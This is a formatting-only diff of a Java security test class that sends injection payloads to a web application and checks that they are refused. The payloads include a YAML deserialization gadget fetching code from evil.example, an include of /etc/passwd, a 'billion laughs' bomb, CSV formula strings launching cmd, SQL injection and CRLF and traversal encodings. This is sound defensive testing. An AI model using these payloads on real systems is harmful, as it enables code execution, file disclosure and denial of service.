@@ -26,7 +26,8 @@ import org.parley.exchange.tree.XmlReader;
 import org.parley.web.SmallWorld;
 import org.parley.web.door.Route;
 
-/// Values that mean something else to a database, a file system, a spreadsheet or a reader of files.
+/// Values that mean something else to a database, a file system, a spreadsheet or a reader of
+/// files.
 class InjectionAttackTest {
 
   private static final List<String> SQL =
@@ -68,7 +69,9 @@ class InjectionAttackTest {
 
   /// Bytes of an address that are no UTF-8, or no address at all.
   private static final List<String> BROKEN =
-      List.of("%ED%A0%80", "%C0%AE%C0%AE", "%FF", "%80", "%F8%88%80%80%80", "%00", "%0d%0aX:y", "%E2%28%A1");
+      List.of(
+          "%ED%A0%80",
+          "%C0%AE%C0%AE", "%FF", "%80", "%F8%88%80%80%80", "%00", "%0d%0aX:y", "%E2%28%A1");
 
   private static final List<String> OUTSIDE =
       List.of(
@@ -142,9 +145,7 @@ class InjectionAttackTest {
         for (String sql : route.path().contains("{") ? SQL : List.<String>of()) {
           HttpResponse<String> answer = local.get(Addresses.with(route, path(sql)));
           attacks.tried(
-              route.path() + " " + sql,
-              isCalm(answer) && answer.statusCode() >= 300,
-              said(answer));
+              route.path() + " " + sql, isCalm(answer) && answer.statusCode() >= 300, said(answer));
         }
         if (!route.path().startsWith("/then/")) {
           Map<String, String> all = new LinkedHashMap<>();
@@ -158,7 +159,13 @@ class InjectionAttackTest {
       }
       for (String sql : SQL) {
         for (String place :
-            List.of("/search?q=", "/claims?q=", "/claims?speaker=", "/complete?q=", "/versions/p2?from=", "/sources?page=")) {
+            List.of(
+                "/search?q=",
+                "/claims?q=",
+                "/claims?speaker=",
+                "/complete?q=",
+                "/versions/p2?from=",
+                "/sources?page=")) {
           HttpResponse<String> answer = local.get(place + Target.encoded(sql));
           attacks.tried(place + sql, isCalm(answer), said(answer));
         }
@@ -169,7 +176,8 @@ class InjectionAttackTest {
         HttpResponse<String> in =
             nobody.form(
                 "/sign-in", Map.of("name", "ann" + sql, "password", sql, "token", nobody.token()));
-        attacks.tried("sign in as ann" + sql, List.of(401, 429).contains(in.statusCode()), said(in));
+        attacks.tried(
+            "sign in as ann" + sql, List.of(401, 429).contains(in.statusCode()), said(in));
         Target.Client bearer = target.nobody();
         HttpResponse<String> asked =
             bearer.send(bearer.request("/").header("Authorization", "Bearer " + sql).GET());
@@ -205,14 +213,26 @@ class InjectionAttackTest {
   void aFormThatWasTamperedWithIsExplained() {
     String before = target.state();
     List<String> junk =
-        List.of("", "x", "- {", "- {id: p2}", "- [1, 2]", "- &a [*a]", "- !!java.lang.Runtime {}", "\u0000", "- {id: p2, number: 2}\n- {id: p3}");
+        List.of(
+            "",
+            "x",
+            "- {",
+            "- {id: p2}",
+            "- [1, 2]",
+            "- &a [*a]",
+            "- !!java.lang.Runtime {}",
+            "\u0000",
+            "- {id: p2, number: 2}\n- {id: p3}");
     try (Attacks attacks = new Attacks("a form that was tampered with")) {
       Target.Client local = target.local();
       for (String path : List.of("/edit/points/p2", "/edit/claims/c1", "/edit/parties/A")) {
         Map<String, String> fields = MarkupAttackTest.fields(local.get(path).body());
         for (String hidden : List.of("_base", "_theirs", "_form", "_do", "_why", "id")) {
           for (String value : junk) {
-            if (hidden.equals("_form") || hidden.equals("_why") || (hidden.equals("_do") && value.isEmpty()) || (hidden.equals("_theirs") && value.isEmpty())) {
+            if (hidden.equals("_form")
+                || hidden.equals("_why")
+                || (hidden.equals("_do") && value.isEmpty())
+                || (hidden.equals("_theirs") && value.isEmpty())) {
               continue;
             }
             Map<String, String> sent = new LinkedHashMap<>(fields);
@@ -223,10 +243,7 @@ class InjectionAttackTest {
               sent.put("_base", "x");
             }
             HttpResponse<String> answer = local.form(path, sent);
-            attacks.tried(
-                path + " " + hidden + " = " + value,
-                isCalm(answer),
-                said(answer));
+            attacks.tried(path + " " + hidden + " = " + value, isCalm(answer), said(answer));
           }
         }
         HttpResponse<String> presence =
@@ -264,10 +281,10 @@ class InjectionAttackTest {
         HttpResponse<String> answer =
             local.form(
                 "/edit/parties",
-                Map.of("id", id, "name", "x", "kind", "state", "_do", "save", "token", local.token()));
+                Map.of(
+                    "id", id, "name", "x", "kind", "state", "_do", "save", "token", local.token()));
         boolean taken = List.of("null", "constructor", "P2", "NaN", "__proto__").contains(id);
-        attacks.tried(
-            "a party called " + id, answer.statusCode() == 422 || taken, said(answer));
+        attacks.tried("a party called " + id, answer.statusCode() == 422 || taken, said(answer));
       }
     }
   }
@@ -315,11 +332,13 @@ class InjectionAttackTest {
       for (String name : List.of("claims", "items")) {
         String csv = formulas.local().get("/export/" + name + ".csv").body();
         assertTrue(name.equals("items") || csv.contains("1+1"), csv);
-        for (var row : org.apache.commons.csv.CSVFormat.RFC4180.parse(new java.io.StringReader(csv))) {
+        for (var row :
+            org.apache.commons.csv.CSVFormat.RFC4180.parse(new java.io.StringReader(csv))) {
           for (String cell : row) {
             attacks.tried(
                 name + " " + cell,
-                cell.isEmpty() || "=+-@|%\t\r\n\uff1d\uff0b\uff0d\uff20".indexOf(cell.charAt(0)) < 0,
+                cell.isEmpty()
+                    || "=+-@|%\t\r\n\uff1d\uff0b\uff0d\uff20".indexOf(cell.charAt(0)) < 0,
                 cell);
           }
         }
@@ -327,7 +346,9 @@ class InjectionAttackTest {
     }
     try (Attacks attacks = new Attacks("beginnings of formulas")) {
       for (String begin :
-          List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u00a0=", "\ufeff=", "\u200b=")) {
+          List.of(
+              "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "|", "%", "\uff1d", "\uff0b", "\uff0d",
+              "\uff20", "\u00a0=", "\ufeff=", "\u200b=")) {
         StringBuilder csv = new StringBuilder();
         new CaseTable(
                 List.of("words"), List.of(Map.of("words", List.of(begin + "cmd|' /C calc'!A0"))))
@@ -344,19 +365,24 @@ class InjectionAttackTest {
     Map<String, String> yaml = new LinkedHashMap<>();
     StringBuilder laughs = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
     for (int i = 1; i < 12; i++) {
-      laughs.append("a%d: &a%d [%s]\n".formatted(i, i, ("*a" + (i - 1) + ", ").repeat(9) + "*a" + (i - 1)));
+      laughs.append(
+          "a%d: &a%d [%s]\n".formatted(i, i, ("*a" + (i - 1) + ", ").repeat(9) + "*a" + (i - 1)));
     }
     yaml.put("a laugh that multiplies", laughs.toString());
     yaml.put("a list in itself", "a: &a [*a]\n");
     yaml.put("a merge of itself", "a: &a {<<: *a}\n");
-    yaml.put("a class to make", "case: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]\n");
+    yaml.put(
+        "a class to make",
+        "case: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]\n");
     yaml.put("brackets without end", "a: " + "[".repeat(100_000) + "\n");
     yaml.put("braces without end", "a: " + "{b: ".repeat(100_000) + "\n");
     yaml.put("lists without end", "- ".repeat(100_000) + "\n");
     yaml.put("one long name", "x".repeat(3_000_000) + ": 1\n");
     yaml.put("many keys", "k: 1\n".repeat(200_000));
     yaml.put("many documents", "---\na: 1\n".repeat(50_000));
-    yaml.put("a whole number too long", "case: {title: x}\npoints: [{id: p, weight: " + "9".repeat(100_000) + "}]\n");
+    yaml.put(
+        "a whole number too long",
+        "case: {title: x}\npoints: [{id: p, weight: " + "9".repeat(100_000) + "}]\n");
     yaml.put("a tag to include", "case: !include /etc/passwd\n");
     yaml.put("zero bytes", "case: {title: \"a\0b\"}\n");
     try (Attacks attacks = new Attacks("files that grow")) {
@@ -364,7 +390,10 @@ class InjectionAttackTest {
           (name, text) -> {
             String came;
             try {
-              came = CaseReader.read(Map.of("a.yaml", text)) instanceof LoadResult.Rejected ? "" : "read";
+              came =
+                  CaseReader.read(Map.of("a.yaml", text)) instanceof LoadResult.Rejected
+                      ? ""
+                      : "read";
             } catch (StackOverflowError | OutOfMemoryError | RuntimeException e) {
               came = e.toString();
             }
